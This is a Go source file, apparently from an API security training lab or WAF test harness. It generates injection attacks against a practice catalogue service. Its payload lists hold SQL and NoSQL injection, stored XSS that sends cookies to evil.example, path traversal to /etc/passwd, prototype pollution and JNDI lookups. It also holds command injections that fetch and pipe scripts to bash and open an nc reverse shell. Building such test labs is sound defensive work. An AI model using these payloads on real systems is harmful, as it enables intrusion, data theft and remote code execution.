package lab

import (
	"encoding/json"
	"net/url"
)

// injectionAttacks are API8 as well: values that something behind the service would
// run, open or merge. Each attempt takes another spelling.
func injectionAttacks() []Attack {
	var list []Attack
	add := func(name, title, effect string, send func(a *attempt, payload string), payloads ...string) {
		list = append(list, Attack{Name: name, Title: title, Class: API8, Room: "waf", run: func(a *attempt) (bool, error) {
			send(a, payloads[a.rng.IntN(len(payloads))])
			return a.did(effect), nil
		}})
	}
	search := func(a *attempt, q string) { a.ask("GET", "/catalogue/items", query("q="+url.QueryEscape(q))) }
	review := func(text string, photos ...string) option {
		return jsonBody(map[string]any{"stars": 5, "text": text, "photos": photos})
	}
	add("sqli-search", "SQL in a search", "sql.injected", search,
		"' OR '1'='1", "x' UNION SELECT password_hash FROM users-- -", "1'; DROP TABLE items;--", "tea' AND SLEEP(5)#", "' or 1=1 -- ")
	add("sqli-review", "SQL in a review", "sql.injected", func(a *attempt, text string) {
		a.ask("POST", "/catalogue/items/tea/reviews", bearer(a.token), review(text))
	}, "nice' OR 'a'='a", "good'; DELETE FROM reviews; --", "5' UNION ALL SELECT NULL,NULL,version()--")
	add("xss-review", "a script in a review", "script.stored", func(a *attempt, text string) {
		a.ask("POST", "/catalogue/items/tea/reviews", bearer(a.token), review(text))
	}, "<script>fetch('//evil.example/'+document.cookie)</script>", "<img src=x onerror=alert(1)>", `<a href="javascript:alert(1)">tea</a>`)
	add("xss-review-unicode", "the same in JSON's escapes", "script.stored", func(a *attempt, text string) {
		a.ask("POST", "/catalogue/items/tea/reviews", bearer(a.token), jsonText(`{"stars":5,"text":"`+escaped(text)+`"}`))
	}, "<script>alert(1)</script>", "<svg/onload=alert(1)><img src=x onerror=alert(1)>")
	add("traversal-photo", "a photo that is a file of the server's", "file.read", func(a *attempt, photo string) {
		a.ask("POST", "/catalogue/items/tea/reviews", bearer(a.token), review("nice", photo))
	}, "../../../../etc/passwd", `..\..\..\windows\win.ini`, "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/passwd")
	add("command-feedback", "a command in a message", "command.run", func(a *attempt, text string) {
		a.ask("POST", "/v0/feedback", jsonBody(map[string]string{"text": text}))
	}, "fine; cat /etc/passwd", "$(curl http://evil.example/x.sh)", "ok | nc evil.example 4444 -e /bin/sh", "`wget http://evil.example/x.sh -O- | bash`")
	add("nosql-search", "a database's operator in a search", "nosql.injected", search,
		`{"$where":"sleep(1000)"}`, `{"$ne":null}`, `{"$regex":".*"}`)
	add("prototype-query", "parameters that reach every object's prototype", "prototype.polluted", func(a *attempt, q string) {
		a.ask("GET", "/catalogue/items", query(q))
	}, "__proto__[admin]=1", "__proto__.role=admin", "__proto__%5Bpolluted%5D=yes")
	add("jndi-agent", "a lookup in a header that is logged", "jndi.lookup", func(a *attempt, agent string) {
		a.ask("GET", "/catalogue/items/tea", with("User-Agent", agent))
	}, "${jndi:ldap://evil.example/a}", "Mozilla/5.0 ${jndi:dns://evil.example/x}")
	return list
}

// escaped spells every character as JSON's escapes.
func escaped(text string) string {
	var b []byte
	for _, r := range text {
		b = append(b, `\u00`...)
		const hex = "0123456789abcdef"
		b = append(b, hex[r>>4&15], hex[r&15])
	}
	if !json.Valid(append(append([]byte{'"'}, b...), '"')) {
		panic("only ASCII is escaped") // of our own texts: a test reads them
	}
	return string(b)
}
